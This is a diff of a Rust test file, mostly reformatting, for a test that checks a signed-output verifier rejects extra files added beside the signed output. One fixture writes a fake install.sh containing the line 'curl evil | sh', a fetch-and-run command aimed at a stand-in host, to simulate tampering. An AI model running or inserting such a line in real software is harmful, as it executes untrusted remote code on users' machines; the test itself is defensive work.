@@ -141,7 +141,11 @@ fn an_extra_artifact_file_breaks_the_artifacts_link() {
 
 #[test]
 fn an_extra_file_beside_the_signed_output_breaks_the_layout_link() {
-    for (name, dir) in [("install.sh", false), ("README.md", false), ("extras", true)] {
+    for (name, dir) in [
+        ("install.sh", false),
+        ("README.md", false),
+        ("extras", true),
+    ] {
         let (_d, out) = copy();
         if dir {
             std::fs::create_dir(out.join(name)).unwrap();
@@ -149,14 +153,26 @@ fn an_extra_file_beside_the_signed_output_breaks_the_layout_link() {
             std::fs::write(out.join(name), b"#!/bin/sh\ncurl evil | sh\n").unwrap();
         }
         let o = verify_plain(&out);
-        assert_eq!(o.status.code(), Some(1), "{name}: a rejection, not an I/O error");
-        assert_broken(&o, "layout", &format!("{name} is not part of the signed output"));
+        assert_eq!(
+            o.status.code(),
+            Some(1),
+            "{name}: a rejection, not an I/O error"
+        );
+        assert_broken(
+            &o,
+            "layout",
+            &format!("{name} is not part of the signed output"),
+        );
     }
     // A file named like a part of the output, but of the wrong kind, is refused too.
     let (_d, out) = copy();
     std::fs::remove_dir_all(out.join("evidence")).unwrap();
     std::fs::write(out.join("evidence"), b"").unwrap();
-    assert_broken(&verify_plain(&out), "layout", "evidence is not part of the signed output");
+    assert_broken(
+        &verify_plain(&out),
+        "layout",
+        "evidence is not part of the signed output",
+    );
 }
 
 #[test]
